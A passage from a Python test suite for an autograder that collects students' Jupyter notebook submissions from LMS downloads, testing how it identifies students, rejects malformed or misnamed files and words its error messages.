    course.reports_dir.mkdir(parents=True, exist_ok=True)
    (course.reports_dir / "collect.json").write_text(text)
    download = write_tree(tmp_path / "d", {"olga/02-shapes-and-loss.ipynb": notebook_bytes("olga")})
    assert main(["collect", str(download)]) == 2
    err = capsys.readouterr().err
    assert f"{course.reports_dir / 'collect.json'} is damaged" in err and "collect every download again" in err, err
    assert "Traceback" not in err
    assert course.submitted_students() == []


def test_one_students_single_notebook_is_collected_with_student(course, tmp_path):
    """An instructor given one notebook by mail had to put it in a folder first; with --student it is filed as that
    student's, its file time the hand-in time."""
    mailed = tmp_path / "mail" / "02-shapes-and-loss.ipynb"
    mailed.parent.mkdir()
    mailed.write_bytes(notebook_bytes("mailed"))
    when = dt.datetime(2026, 3, 1, 10, 0, tzinfo=dt.timezone.utc).timestamp()
    os.utime(mailed, (when, when))
    report = collect(course, mailed, student="lee")
    assert course.submitted_students() == ["lee"] and report.students["lee"].status == "new"
    assert list(report.students["lee"].notebooks) == ["02-shapes-and-loss"], report.students["lee"]
    assert report.students["lee"].timestamp.startswith("2026-03-01 10:00:00"), report.students["lee"].timestamp


def test_one_students_folder_collected_on_its_own_is_refused_with_the_student_option_named_last(course, tmp_path):
    """`collect dl/bob` refused bob's notebook with "put it in a folder named after the student", which it was in,
    the one useful line above forty lines of layouts (found by a TA's walkthrough). The last line now names the
    command that files it; a folder named like no id, and a zip, get no such line."""
    bob = write_tree(tmp_path / "dl" / "bob", {"02-shapes-and-loss.ipynb": notebook_bytes("bob's")})
    with pytest.raises(AutograderError) as refused:
        collect(course, bob)
    last = str(refused.value).splitlines()[-1]
    assert last == (f"{bob} is named like a student id: if it holds one student's files, `python -m autograder "
                    f"collect {bob} --student bob{build_option(course)}` files them as bob's"), str(refused.value)
    assert "accepted layouts" in str(refused.value)
    assert collect(course, bob, student="bob").students["bob"].status == "new"  # what the line says works
    odd = write_tree(tmp_path / "dl" / "--", {"02-shapes-and-loss.ipynb": notebook_bytes("whose?")})
    with pytest.raises(AutograderError) as no_id:
        collect(course, odd)
    assert "--student" not in str(no_id.value).splitlines()[-1], str(no_id.value)


def test_bad_paths_raise_clear_errors(course, tmp_path):
    with pytest.raises(AutograderError, match=re.escape(f"{tmp_path / 'missing'} does not exist; expected a folder or a "
                                                        ".zip of student notebooks, or one student's notebook with "
                                                        "--student ID")):
        collect(course, tmp_path / "missing")
    (tmp_path / "plain.txt").write_text("x")
    with pytest.raises(AutograderError, match="neither a folder nor a zip"):
        collect(course, tmp_path / "plain.txt")
    (tmp_path / "class.tar.gz").write_bytes(b"\x1f\x8b\x08\x00")
    with pytest.raises(AutograderError, match=r"class.tar.gz is an archive collect does not open \(.gz\); unpack it"):
        collect(course, tmp_path / "class.tar.gz")
    with zipfile.ZipFile(tmp_path / "outer.zip", "w") as zf:  # the LMS download zipped once more
        zf.writestr("canvas.zip", b"PK\x05\x06" + bytes(18))
    with pytest.raises(AutograderError, match=r"outer.zip holds only an archive \(canvas.zip\), which collect does not "
                                              r"open: unpack the download inside and collect that"):
        collect(course, tmp_path / "outer.zip")
    (tmp_path / "02-shapes-and-loss.ipynb").write_bytes(notebook_bytes("mailed"))
    with pytest.raises(AutograderError, match=r"is a single notebook; collect takes a folder or a .zip of a class's "
                                              r"hand-ins, or one student's notebook with --student ID \(their id\)"):
        collect(course, tmp_path / "02-shapes-and-loss.ipynb")
    # the course's own folders would be filed as students named release, submitted, rejected ...
    (course.root / "submitted").mkdir(exist_ok=True)
    for own, words in [(course.root, "is inside the course folder"), (course.root / "submitted", "is inside the course"),
                       (course.root.parent, "holds the course folder")]:
        with pytest.raises(AutograderError, match=words):
            collect(course, own)
    assert course.submitted_students() == [] and not course.rejected_dir.exists()
    good = tmp_path / "good.zip"
    with zipfile.ZipFile(good, "w") as zf:
        zf.writestr("ivan/02-shapes-and-loss.ipynb", notebook_bytes("ivan"))
    (tmp_path / "cut.zip").write_bytes(good.read_bytes()[:40])  # an interrupted download
    (tmp_path / "cut-download").write_bytes(good.read_bytes()[:40])  # same, without its .zip name
    (tmp_path / "empty.zip").write_bytes(b"")
    for name in ("cut.zip", "cut-download", "empty.zip"):
        with pytest.raises(AutograderError, match="damaged or incomplete zip file.*re-download"):
            collect(course, tmp_path / name)
    (tmp_path / "empty").mkdir()
    with pytest.raises(AutograderError, match="found no files in"):
        collect(course, tmp_path / "empty")


def test_notebook_name_matching_prefers_the_longest_name():
    names = ["loss", "02-shapes-and-loss"]
    assert match_notebook("kim_02-shapes-and-loss", names) == ("02-shapes-and-loss", "kim")
    assert match_notebook("02-Shapes-and-Loss-2", names) == ("02-shapes-and-loss", "")
    assert match_notebook("homework", names) is None


@pytest.mark.parametrize("stem", ["02-shapes-and-loss-Copy1", "02-shapes-and-loss-copy", "kim_02-shapes-and-loss-Copy12",
                                  "Copy of 02-shapes-and-loss", "02-shapes-and-loss (1)"])
def test_the_copy_names_of_jupyter_browsers_and_colab_are_the_notebook(stem):
    """JupyterLab's File > Duplicate (and Make a Copy) names a copy NAME-Copy1: it used to be refused as no notebook."""
    assert match_notebook(stem, ["loss", "02-shapes-and-loss"]) == ("02-shapes-and-loss", "kim" if stem.startswith("kim") else "")


def test_nbformat3_is_converted_and_garbage_is_named():
    v3 = json.dumps({"nbformat": 3, "nbformat_minor": 0, "metadata": {},
                     "worksheets": [{"cells": [{"cell_type": "code", "input": "1", "outputs": [],
                                                "language": "python", "metadata": {}}], "metadata": {}}]})
    nb, note = read_notebook(v3.encode())
    assert nb.nbformat == 4 and note == "converted from nbformat 3 to 4"
    with pytest.raises(NotANotebook, match="not a Jupyter notebook"):
        read_notebook(b'{"hello": 1}')


CODE_CELL = {"cell_type": "code", "source": "x = 1", "metadata": {}, "outputs": [], "execution_count": None}
V4 = {"nbformat": 4, "nbformat_minor": 4, "metadata": {}, "cells": [CODE_CELL]}


@pytest.mark.parametrize("raw, words", [
    # nbformat read this as version 1 and kept the code cell with its source emptied
    ({k: v for k, v in V4.items() if k != "nbformat"}, "no nbformat version number"),
    (dict(V4, nbformat="4"), "nbformat version '4'; expected a whole number from 1 to 4"),
    (dict(V4, nbformat=7), "nbformat version 7; expected"),
    (dict(V4, cells="print(1)"), "cells are not a list"),
    (dict(V4, metadata=None), "no notebook metadata object"),
    (dict(V4, nbformat_minor=None), "no nbformat_minor version number"),
    (dict(V4, cells=[CODE_CELL, 3]), "cell 2 is a JSON int, not an object"),
    (dict(V4, cells=[dict(CODE_CELL, cell_type="python")]), "cell 1 has cell_type 'python'; expected one of code, markdown, raw"),
    (dict(V4, cells=[{k: v for k, v in CODE_CELL.items() if k != "source"}]), "code cell 1 has no text source"),
    (dict(V4, cells=[dict(CODE_CELL, source=["a", 1])]), "code cell 1 has no text source"),
    (dict(V4, cells=[dict(CODE_CELL, metadata=[])]), "code cell 1 has no metadata object"),
    (dict(V4, cells=[dict(CODE_CELL, outputs=None)]), "code cell 1 has no list of outputs"),
    # an unhashable grade id: a list here made collect fail with a TypeError for the whole download (found by review)
    (dict(V4, cells=[dict(CODE_CELL, metadata={"nbgrader": {"grade_id": ["a"]}})]),
     "code cell 1's nbgrader grade_id is ['a'], not text"),
    (dict(V4, cells=[dict(CODE_CELL, metadata={"nbgrader": "ex_1"})]), "code cell 1's nbgrader metadata is not an object"),
    (dict(V4, cells=[dict(CODE_CELL, execution_count="1")]), "nbformat says: '1' is not of type"),
], ids=["no-version", "version-string", "version-7", "cells-string", "no-metadata", "no-minor", "cell-not-object",
        "unknown-cell-type", "no-source", "source-with-number", "cell-metadata-list", "outputs-none", "grade-id-list",
        "nbgrader-string", "schema"])
def test_a_malformed_notebook_is_named_in_words(raw, words):
    with pytest.raises(NotANotebook) as caught:
        read_notebook(json.dumps(raw).encode())
    message = str(caught.value)
    assert message.startswith("not a valid Jupyter notebook (") and words in message, message
    assert message.endswith("; the file is damaged or was not saved by Jupyter"), message
    assert "object has no attribute" not in message and "converted from version" not in message


def test_a_well_formed_notebook_passes_the_structure_checks():
    nb, note = read_notebook(json.dumps(dict(V4, cells=[CODE_CELL, {"cell_type": "markdown", "source": ["# a\n", "b"],
                                                                    "metadata": {}}])).encode())
    assert [c.source for c in nb.cells] == ["x = 1", "# a\nb"] and note == ""


def test_repeated_cell_ids_are_renamed_reproducibly_without_a_warning():
    """Cells pasted from another copy of the notebook repeat ids; nbformat would rename them at random and warn."""
    import warnings

    source = Path(__file__).resolve().parents[1] / "notebooks" / "part-ii" / "02-shapes-and-loss.ipynb"
    raw = json.loads(source.read_text(encoding="utf-8"))
    first = raw["cells"][2]["id"]
    for index in (3, 5):
        raw["cells"][index]["id"] = first
    data = json.dumps(raw).encode()
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # nbformat's DuplicateCellId is a FutureWarning
        nb, note = read_notebook(data)
        again, _ = read_notebook(data)
    ids = [c.id for c in nb.cells]
    assert len(set(ids)) == len(ids), ids
    assert ids[2] == first and ids[3] == f"{first}-2" and ids[5] == f"{first}-3"
    assert ids == [c.id for c in again.cells]
    assert note == "2 repeated cell ids renamed (cells pasted from another copy?)"
    assert [c.source for c in nb.cells] == ["".join(c["source"]) for c in raw["cells"]]
    del raw["cells"][4]["id"]  # an editor that drops ids: nbformat would invent random ones
    raw["cells"][6]["id"] = "cell-4"  # and the id we would give it is taken
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # nbformat's MissingIDFieldWarning is a FutureWarning too
        nb, note = read_notebook(json.dumps(raw).encode())
    ids = [c.id for c in nb.cells]
    assert ids[4] == "cell-4-2" and len(set(ids)) == len(ids), ids
    assert note == "2 repeated cell ids renamed (cells pasted from another copy?); 1 missing cell id added"


def test_new_gradebooks_get_nbgrader_s_alembic_head_without_a_subprocess(course, tmp_path, monkeypatch):
    """The in-process schema head equals what `alembic heads` prints, and a new gradebook is stamped with it."""
    import sqlite3
    import subprocess
    import sys

    import nbgrader.api
    from nbgrader.dbutil import _temp_alembic_ini

    from autograder.course import alembic_head

    monkeypatch.setenv("PATH", f"{Path(sys.executable).parent}{os.pathsep}{os.environ.get('PATH', '')}")
    with _temp_alembic_ini(f"sqlite:///{tmp_path / 'scratch.db'}") as ini:  # nbgrader's own way, in a subprocess
        printed = subprocess.run(["alembic", "-c", ini, "heads"], capture_output=True, text=True, check=True).stdout
    assert alembic_head() == printed.split()[0]

    def no_subprocess(*args, **kwargs):
        raise AssertionError("nbgrader ran `alembic heads` in a subprocess")

    monkeypatch.setattr(nbgrader.api.sp, "check_output", no_subprocess)
    with course.gradebook():
        pass
    db = course.root / "gradebook.db"
    assert sqlite3.connect(db).execute("select version_num from alembic_version").fetchall() == [(alembic_head(),)]


def test_nested_moodle_folder_and_a_late_folder_file_two_students_not_part_ii(course, tmp_path):
    """The review's case: a single Moodle folder is the student; part-ii/ below a student is never a student.
    late/10002/ is either a wrapper around 10002 or student late's folder: collect asks, until 10002 is known."""
    alice, bob = notebook_bytes("alice"), notebook_bytes("bob")
    dl1 = write_tree(tmp_path / "dl1", {"Alice Wang_10001_assignsubmission_file_/part-ii/02-shapes-and-loss.ipynb": alice})
    dl2 = write_tree(tmp_path / "dl2", {"late/10002/part-ii/02-shapes-and-loss.ipynb": bob})
    assert list(collect(course, dl1).students) == ["10001"]
    with pytest.raises(AutograderError, match=r"cannot tell which folder of late/10002/part-ii/ is the student: "
                                              r"late/, 10002/ .*--student ID"):
        collect(course, dl2)
    assert course.submitted_students() == ["10001"]
    second = collect(course, dl2, student="10002")
    assert list(second.students) == ["10002"] and second.unwrapped == []
    assert second.students["10002"].status == "new"
    assert submitted(course, "10001") == {"02-shapes-and-loss.ipynb": alice}  # not replaced by Bob's file
    assert submitted(course, "10002") == {"02-shapes-and-loss.ipynb": bob}
    assert not course.step_dir("submitted", "part-ii").exists()
    (dl2 / "late/10002/part-ii/02-shapes-and-loss.ipynb").write_bytes(notebook_bytes("bob v2"))
    third = collect(course, dl2)  # 10002 is in the gradebook now: the folder that names a student is the student
    assert list(third.students) == ["10002"] and third.unwrapped == ["late/"]
    assert third.students["10002"].status == "updated"


def test_a_student_s_subfolder_never_becomes_a_student_nor_replaces_another_s_work(course, tmp_path):
    """alice/work/NB alone used to be filed as student 'work', and bob/work/NB then replaced it."""
    first, alice, bob = notebook_bytes("alice v1"), notebook_bytes("alice v2"), notebook_bytes("bob")
    solo = write_tree(tmp_path / "solo", {"alice/work/02-shapes-and-loss.ipynb": alice})
    with pytest.raises(AutograderError, match=r"(?s)alice/, work/ .*none of them is a student of the gradebook"):
        collect(course, solo)
    assert course.submitted_students() == []
    collect(course, write_tree(tmp_path / "class", {"alice/02-shapes-and-loss.ipynb": first,
                                                     "carl/02-shapes-and-loss.ipynb": notebook_bytes("carl")}))
    later = time.time() + 60  # solo was written first; as her later hand-in it must be newer than the class's file
    os.utime(solo / "alice/work/02-shapes-and-loss.ipynb", (later, later))
    report = collect(course, solo)  # alice is known now
    assert list(report.students) == ["alice"] and report.students["alice"].status == "updated"
    assert submitted(course, "alice") == {"02-shapes-and-loss.ipynb": alice}
    with pytest.raises(AutograderError, match=r"bob/, work/"):
        collect(course, write_tree(tmp_path / "bob", {"bob/work/02-shapes-and-loss.ipynb": bob}))
    assert submitted(course, "alice") == {"02-shapes-and-loss.ipynb": alice}
    assert course.submitted_students() == ["alice", "carl"]


def test_a_roster_in_the_gradebook_tells_the_student_folder(course, tmp_path):
    """Students added to nbgrader's gradebook before any collect (nbgrader db student add/import) count as known."""
    with course.gradebook() as gb:
        gb.update_or_create_student("10002")
    report = collect(course, write_tree(tmp_path / "d", {"late/10002/02-shapes-and-loss.ipynb": notebook_bytes("b")}))
    assert list(report.students) == ["10002"]
    with course.gradebook() as gb:
        gb.update_or_create_student("late")
    with pytest.raises(AutograderError, match="several of them are students of the gradebook"):
        collect(course, write_tree(tmp_path / "e", {"late/10002/02-shapes-and-loss.ipynb": notebook_bytes("c")}))


def test_student_option_files_one_student_s_messy_download_and_refuses_a_class(course, tmp_path):
    messy = write_tree(tmp_path / "messy", {
        "Downloads/hand-in/work/02-shapes-and-loss.ipynb": notebook_bytes("nested"),
        "Downloads/hand-in/Part II_dora_attempt_2026-03-01-10-00-00_00-vectors-shapes-and-gradients.ipynb":
            notebook_bytes("bb"),
        "Downloads/hand-in/notes.pdf": b"%PDF-1.4",
    })
    feb = 1769940000  # 2026-02-01, before the Blackboard attempt: the hand-in's time is its latest file's
    os.utime(messy / "Downloads/hand-in/work/02-shapes-and-loss.ipynb", (feb, feb))
    report = collect(course, messy, student="dora")
    assert list(report.students) == ["dora"] and report.students["dora"].missing == []
    assert submitted(course, "dora") == {"02-shapes-and-loss.ipynb": notebook_bytes("nested"),
                                        "00-vectors-shapes-and-gradients.ipynb": notebook_bytes("bb")}
    assert report.students["dora"].timestamp.startswith("2026-03-01 10:00:00")  # the Blackboard name's time
    assert [(r.file, r.student) for r in report.rejected] == [("Downloads/hand-in/notes.pdf", "dora")]
    klass = write_tree(tmp_path / "class", {"ann/02-shapes-and-loss.ipynb": notebook_bytes("a"),
                                            "ben/02-shapes-and-loss.ipynb": notebook_bytes("b")})
    with pytest.raises(AutograderError, match=r"--student dora: the download holds 02-shapes-and-loss.ipynb in 2 "
                                              r"folders \(ann, ben\), as a class download does; .* when they are one "
                                              r"student's drafts, keep the one file to grade for each notebook"):
        collect(course, klass, student="dora")
    assert course.submitted_students() == ["dora"]


def test_a_folder_named_after_the_assignment_is_never_a_student(course, tmp_path):
    download = write_tree(tmp_path / "d", {"part-ii/02-shapes-and-loss.ipynb": notebook_bytes("whose"),
                                           "alice/02-shapes-and-loss.ipynb": notebook_bytes("alice")})
    report = collect(course, download)
    assert list(report.students) == ["alice"]
    reason = next(r.reason for r in report.rejected if r.file == "part-ii/02-shapes-and-loss.ipynb")
    assert "named after the assignment" in reason
    alone = write_tree(tmp_path / "alone", {"part-ii/02-shapes-and-loss.ipynb": notebook_bytes("whose")})
    with pytest.raises(AutograderError, match="could be filed for a student .1 rejected: 02-shapes-and-loss.ipynb: cannot "
                                              "tell whose file this is"):
        collect(course, alone)


def test_canvas_files_in_one_wrapping_folder_are_several_students(course, tmp_path):
    gina, hank = notebook_bytes("gina"), notebook_bytes("hank")
    download = write_tree(tmp_path / "cz", {"submissions/gina_123_456_02-shapes-and-loss.ipynb": gina,
                                            "submissions/hank_124_457_02-shapes-and-loss.ipynb": hank})
    report = collect(course, download)
    assert sorted(report.students) == ["gina", "hank"] and report.rejected == []
    assert submitted(course, "gina") == {"02-shapes-and-loss.ipynb": gina}
    assert submitted(course, "hank") == {"02-shapes-and-loss.ipynb": hank}


def test_a_folder_that_looks_like_both_layouts_is_refused(course, tmp_path):
    download = write_tree(tmp_path / "mixed", {"submissions/gina_123_456_02-shapes-and-loss.ipynb": notebook_bytes("g"),
                                               "submissions/hank_124_457_02-shapes-and-loss.ipynb": notebook_bytes("h"),
                                               "submissions/02-shapes-and-loss.ipynb": notebook_bytes("?")})
    with pytest.raises(AutograderError, match=r"(?s)cannot tell whether submissions/ is one student's folder.*"
                                              r"accepted layouts") as info:
        collect(course, download)
    assert "02-shapes-and-loss.ipynb" in str(info.value) and "gina" in str(info.value)
    assert "say whose with `collect PATH --student ID`" in str(info.value)
    assert course.submitted_students() == []


def test_two_canvas_users_with_one_name_are_not_merged(course, tmp_path):
    download = write_tree(tmp_path / "same", {"li_123_456_02-shapes-and-loss.ipynb": notebook_bytes("li one"),
                                              "li_999_457_02-shapes-and-loss.ipynb": notebook_bytes("li two"),
                                              "li_123_458_00-vectors-shapes-and-gradients.ipynb": notebook_bytes("1")})
    report = collect(course, download)
    assert report.students["li"].status == "no valid notebook"
    reasons = {r.file: r.reason for r in report.rejected}
    assert set(reasons) == {"li_123_456_02-shapes-and-loss.ipynb", "li_999_457_02-shapes-and-loss.ipynb",
                            "li_123_458_00-vectors-shapes-and-gradients.ipynb"}
    assert all("several Canvas users ('li_123', 'li_999')" in r for r in reasons.values())
    assert not course.step_dir("submitted", "li").exists()


def test_files_that_are_not_gradable_notebooks_keep_their_student(course, tmp_path):
    files = {"hank_124_457_homework2.ipynb": notebook_bytes("hank"),
             "ivy_125_458_part-ii.zip": b"PK\3\4 a zip",
             "jack_126_459_02-shapes-and-loss.ipynb.txt": notebook_bytes("jack"),
             "kim/part-ii.zip": b"PK\3\4 kim's zip",
             "kim/__MACOSX/._part-ii.zip": b"\0"}
    report = collect(course, write_tree(tmp_path / "flat", files))
    assert sorted(report.students) == ["hank", "ivy", "jack", "kim"]
    reasons = {r.file: r for r in report.rejected}
    assert set(reasons) == set(files) - {"kim/__MACOSX/._part-ii.zip"}
    assert reasons["hank_124_457_homework2.ipynb"].reason.startswith("wrong name")
    assert "rename it to 02-shapes-and-loss.ipynb" in reasons["jack_126_459_02-shapes-and-loss.ipynb.txt"].reason
    assert "unpack it" in reasons["ivy_125_458_part-ii.zip"].reason and "unpack it" in reasons["kim/part-ii.zip"].reason
    for name, r in reasons.items():
        assert Path(r.copy).read_bytes() == files[name]
    assert [r.file for r in report.ignored] == ["kim/__MACOSX/._part-ii.zip"]
    assert {s: r.status for s, r in report.students.items()} == dict.fromkeys(["hank", "ivy", "jack", "kim"],
                                                                              "no valid notebook")


def test_export_gives_every_student_who_handed_in_anything_a_row(course, tmp_path):
    from autograder.course import ASSIGNMENT
    from autograder.export import export

    with course.gradebook() as gb:
        gb.update_or_create_assignment(ASSIGNMENT)
    collect(course, write_tree(tmp_path / "flat", {"ivy_125_458_part-ii.zip": b"PK\3\4",
                                                   "jack_126_459_02-shapes-and-loss.ipynb.txt": b"{}"}))
    collect(course, write_tree(tmp_path / "folders", {"u14/.ipynb_checkpoints/02-shapes-and-loss-checkpoint.ipynb":
                                                      notebook_bytes("checkpoint")}))
    grades_csv = export(course)[0]
    import csv
    with open(grades_csv, newline="", encoding="utf-8") as fh:
        rows = {r["student_id"]: r for r in csv.DictReader(fh)}
    assert sorted(rows) == ["ivy", "jack", "u14"]
    assert rows["u14"]["status"] == "no valid notebook", rows["u14"]
    assert "ignored u14/.ipynb_checkpoints/02-shapes-and-loss-checkpoint.ipynb: system file" in rows["u14"]["notes"]
    assert rows["ivy"]["status"] == "no valid notebook" and rows["ivy"]["score"] == "0"
    # each notebook scores 0 as a graded student's missing one does (it was left empty: an LMS reads that as no grade)
    assert [rows["ivy"][nb] for nb in course.notebook_names()] == ["0"] * len(course.notebook_names()), rows["ivy"]
    assert "rejected ivy_125_458_part-ii.zip: not a notebook (.zip)" in rows["ivy"]["notes"]
    assert "rename it to 02-shapes-and-loss.ipynb" in rows["jack"]["notes"]


def test_a_released_course_file_handed_back_is_not_a_rejection(course, tmp_path):
    helper = b"def softmax(x):\n    return x\n"
    (course.bundle_dir / "code/part-ii").mkdir(parents=True)
    (course.bundle_dir / "code/part-ii/helpers.py").write_bytes(helper)
    download = write_tree(tmp_path / "d", {"mia/part-ii/02-shapes-and-loss.ipynb": notebook_bytes("mia"),
                                           "mia/part-ii/code/part-ii/helpers.py": helper,
                                           "mia/part-ii/code/part-ii/mine.py": b"x = 1\n",
                                           "kim/02-shapes-and-loss.ipynb": notebook_bytes("kim"),
                                           "kim/code/part-ii/helpers.py": b"def softmax(x):\n    return 2 * x\n"})
    report = collect(course, download)
    assert sorted((r.file, r.reason) for r in report.rejected) == [
        # a changed copy was "not a notebook (.py)", as if the student had handed in a stray script
        ("kim/code/part-ii/helpers.py", "a changed copy of the course file code/part-ii/helpers.py: grading runs every "
                                        "notebook with the course's own copy, so the changes do not count (only .ipynb "
                                        "files are graded)"),
        ("mia/part-ii/code/part-ii/mine.py", "not a notebook (.py); only .ipynb files are graded")]
    assert [(r.file, r.reason) for r in report.ignored] == [
        ("mia/part-ii/code/part-ii/helpers.py", "unchanged copy of the released course file code/part-ii/helpers.py")]


def test_the_student_release_collected_by_mistake_invents_no_student_from_its_code_and_data_folders(course, tmp_path,
                                                                                                    capsys):
    from autograder.cli import main

    bundled = {"code/part-ii/helpers.py": b"def softmax(x):\n    return x\n", "data/part-ii/cases.json": b"{}\n",
               "README.md": b"# part-ii\n"}
    for rel, data in bundled.items():
        (course.bundle_dir / rel).parent.mkdir(parents=True, exist_ok=True)
        (course.bundle_dir / rel).write_bytes(data)
    zpath = tmp_path / "part-ii.zip"
    with zipfile.ZipFile(zpath, "w") as zf:
        for name in NOTEBOOKS:
            zf.writestr(f"part-ii/{name}.ipynb", notebook_bytes(name))
        for rel, data in bundled.items():
            zf.writestr(f"part-ii/{rel}", data)
    assert main(["collect", str(zpath)]) == 2
    assert "could be filed for a student" in capsys.readouterr().err
    assert course.submitted_students() == []


def test_equal_times_keep_the_higher_numbered_copy_and_say_so(course, tmp_path):
    first, second = notebook_bytes("first"), notebook_bytes("second")
    download = write_tree(tmp_path / "d", {"zoe/02-shapes-and-loss.ipynb": first,
                                           "zoe/02-shapes-and-loss (1).ipynb": second})
    for name in ("02-shapes-and-loss.ipynb", "02-shapes-and-loss (1).ipynb"):
        os.utime(download / "zoe" / name, (1_700_000_000, 1_700_000_000))
    report = collect(course, download)
    (dup,) = report.rejected
    assert dup.file == "zoe/02-shapes-and-loss.ipynb"
    assert "same time" in dup.reason and "higher-numbered copy" in dup.reason and "newer" not in dup.reason
    assert submitted(course, "zoe") == {"02-shapes-and-loss.ipynb": second}


def answer_notebook(source: str) -> bytes:
    """A notebook with one answer cell (grade id ex_a) holding source."""
    cell = nbformat.v4.new_code_cell(source)
    cell.id = "answer-cell"
    cell.metadata["nbgrader"] = {"grade": False, "solution": True, "locked": False, "grade_id": "ex_a",
                                 "schema_version": 3}
    return nbformat.writes(nbformat.v4.new_notebook(cells=[cell])).encode()


def test_at_equal_times_the_file_with_answers_then_final_then_fewer_folders_wins(course, tmp_path):
    """Many LMS downloads give every file of a hand-in one time: the last path in name order used to win, and a
    blank notebook beside the solved one (or in a backup folder) was graded, for 0 points."""
    stub = "# YOUR CODE HERE\nraise NotImplementedError()"
    nbformat.write(nbformat.reads(answer_notebook(stub).decode(), 4), course.release_dir / "02-shapes-and-loss.ipynb")
    blank, solved, other = answer_notebook(stub), answer_notebook("x = 1"), answer_notebook("x = 2")
    download = write_tree(tmp_path / "d", {
        "ann/02-shapes-and-loss.ipynb": blank, "ann/02-shapes-and-loss-final.ipynb": solved,
        "bob/02-shapes-and-loss.ipynb": solved, "bob/backup/02-shapes-and-loss.ipynb": blank,
        "cyd/02-shapes-and-loss.ipynb": solved, "cyd/old/02-shapes-and-loss.ipynb": other,
        "dee/02-shapes-and-loss.ipynb": other, "dee/02-shapes-and-loss-final.ipynb": solved,
    })
    for path in download.rglob("*.ipynb"):
        os.utime(path, (1_700_000_000, 1_700_000_000))
    report = collect(course, download)
    for student in ("ann", "bob", "cyd", "dee"):
        assert submitted(course, student) == {"02-shapes-and-loss.ipynb": solved}, student
    reasons = {r.file: r.reason for r in report.rejected}
    assert len(reasons) == 4, reasons
    assert reasons["ann/02-shapes-and-loss.ipynb"].endswith(
        "kept ann/02-shapes-and-loss-final.ipynb, which has answers filled in; none of this one's answer cells differs "
        "from the release")
    assert reasons["bob/backup/02-shapes-and-loss.ipynb"].endswith(
        "kept bob/02-shapes-and-loss.ipynb, which has answers filled in; none of this one's answer cells differs from "
        "the release")
    assert "kept cyd/02-shapes-and-loss.ipynb, the one in fewer folders" in reasons["cyd/old/02-shapes-and-loss.ipynb"]
    assert "kept dee/02-shapes-and-loss-final.ipynb, the file named final" in reasons["dee/02-shapes-and-loss.ipynb"]


def test_a_release_copy_handed_in_unchanged_is_named_in_collect_s_summary_and_the_export(course, tmp_path, capsys):
    """The most common wrong upload, the blank notebook handed in, scored 0 with nothing to tell it from a student who
    tried and failed (an instructor's walkthrough): collect lists it, collect.json keeps it, and its export row says
    so; an answer filled in later clears it."""
    from autograder.collect import print_report
    from autograder.export import student_notes

    stub = "# YOUR CODE HERE\nraise NotImplementedError()"
    nbformat.write(nbformat.reads(answer_notebook(stub).decode(), 4), course.release_dir / "02-shapes-and-loss.ipynb")
    own_cell = nbformat.reads(answer_notebook(stub).decode(), 4)  # the stub left, the answer in a cell of its own
    own_cell.cells.append(nbformat.v4.new_code_cell("x = 3"))
    download = write_tree(tmp_path / "d", {"ann/02-shapes-and-loss.ipynb": answer_notebook(stub),
                                           "bob/02-shapes-and-loss.ipynb": answer_notebook("x = 1"),
                                           "cyd/01-probability-and-bayes.ipynb": notebook_bytes("no answer cells"),
                                           "eve/02-shapes-and-loss.ipynb": nbformat.writes(own_cell).encode()})
    report = collect(course, download)
    assert {s: r.unanswered for s, r in report.students.items()} == {
        "ann": ["02-shapes-and-loss"], "bob": [], "cyd": [], "eve": []}  # eve's answer: review
    print_report(report)
    out = capsys.readouterr().out
    assert ("handed in unchanged from the release, no answer filled in (1): the wrong file, most likely; ask for the "
            "one meant\n  ann: 02-shapes-and-loss\n") in out, out
    log = json.loads((course.reports_dir / "collect.json").read_text())
    job = {"state": "done", "notebooks": "{}"}
    ann, bob = (student_notes(student, log, job)[1] for student in ("ann", "bob"))
    assert ann[-1] == "handed in as released, no answer filled in (the wrong file?): 02-shapes-and-loss.ipynb", ann
    assert not [note for note in bob if "as released" in note], bob
    nbformat.write(nbformat.reads(answer_notebook(stub).decode(), 4),
                   course.release_dir / "01-probability-and-bayes.ipynb")
    both = write_tree(tmp_path / "both", {f"dan/{nb}.ipynb": answer_notebook(stub)
                                          for nb in ("01-probability-and-bayes", "02-shapes-and-loss")})
    print_report(collect(course, both))
    assert "\n  dan: all 2 notebooks handed in\n" in capsys.readouterr().out
    solved = write_tree(tmp_path / "later", {"ann/02-shapes-and-loss.ipynb": answer_notebook("x = 2")})
    os.utime(solved / "ann/02-shapes-and-loss.ipynb", (time.time() + 60,) * 2)
    assert collect(course, solved).students["ann"].unanswered == []


def test_an_unanswered_hand_in_beside_its_jupyter_checkpoint_is_named_with_it(course, tmp_path, capsys):
    """A blank notebook handed in with the checkpoint Jupyter keeps of it: the checkpoint is rightly not graded, but the
    summary said nothing of it, though it may hold the answers the student meant to hand in (a TA's walkthrough)."""
    from autograder.collect import print_report

    stub = "# YOUR CODE HERE\nraise NotImplementedError()"
    nbformat.write(nbformat.reads(answer_notebook(stub).decode(), 4), course.release_dir / "02-shapes-and-loss.ipynb")
    download = write_tree(tmp_path / "d", {
        "yan/02-shapes-and-loss.ipynb": answer_notebook(stub),
        "yan/.ipynb_checkpoints/02-shapes-and-loss-checkpoint.ipynb": answer_notebook("x = 5"),
        "zed/02-shapes-and-loss.ipynb": answer_notebook(stub),
        "zed/.ipynb_checkpoints/00-vectors-shapes-and-gradients-checkpoint.ipynb": answer_notebook("x = 6")})
    report = collect(course, download)
    assert submitted(course, "yan") == {"02-shapes-and-loss.ipynb": answer_notebook(stub)}  # the checkpoint: not graded
    print_report(report)
    out = capsys.readouterr().out
    assert ("\n  yan: 02-shapes-and-loss (the download also holds Jupyter's checkpoint of 02-shapes-and-loss, not "
            "graded: if it has the answers, ask for the notebook saved with them)\n") in out, out
    assert "\n  zed: 02-shapes-and-loss\n" in out, out  # a checkpoint of another notebook says nothing of this one


def test_jupyter_copies_are_collected_and_the_highest_numbered_one_wins_a_tie(course, tmp_path):
    """'NAME-copy' made collect crash (copy_number found no digits); Copy10 is a later copy than Copy2."""
    alone = write_tree(tmp_path / "alone", {"yan/02-shapes-and-loss-copy.ipynb": notebook_bytes("copy")})
    collect(course, alone)
    assert submitted(course, "yan") == {"02-shapes-and-loss.ipynb": notebook_bytes("copy")}
    names = ["02-shapes-and-loss.ipynb", "02-shapes-and-loss-copy.ipynb", "02-shapes-and-loss-Copy10.ipynb",
             "02-shapes-and-loss-Copy2.ipynb"]
    download = write_tree(tmp_path / "d", {f"zoe/{name}": notebook_bytes(name) for name in names})
    for name in names:
